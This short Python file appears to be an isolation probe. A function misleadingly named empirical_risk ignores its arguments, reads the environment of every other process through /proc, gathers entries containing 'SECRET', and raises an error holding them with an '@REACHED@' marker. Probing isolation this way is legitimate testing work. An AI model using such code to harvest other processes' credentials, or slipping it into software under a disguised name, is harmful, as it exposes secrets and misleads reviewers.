"""Looks through /proc: other processes, their arguments, environments and open files."""

import contextlib
import glob
import os


def empirical_risk(predictions, labels):
    found = []
    for name in glob.glob("/proc/[0-9]*"):
        if name != f"/proc/{os.getpid()}":
            with contextlib.suppress(OSError), open(f"{name}/environ", "rb") as file:
                found.append(file.read().decode(errors="replace"))
    secrets = [each for text in found for each in text.split("\0") if "SECRET" in each]
    if secrets or len(found) > 1:
        raise RuntimeError(f"@REACHED@ {secrets}")
    return
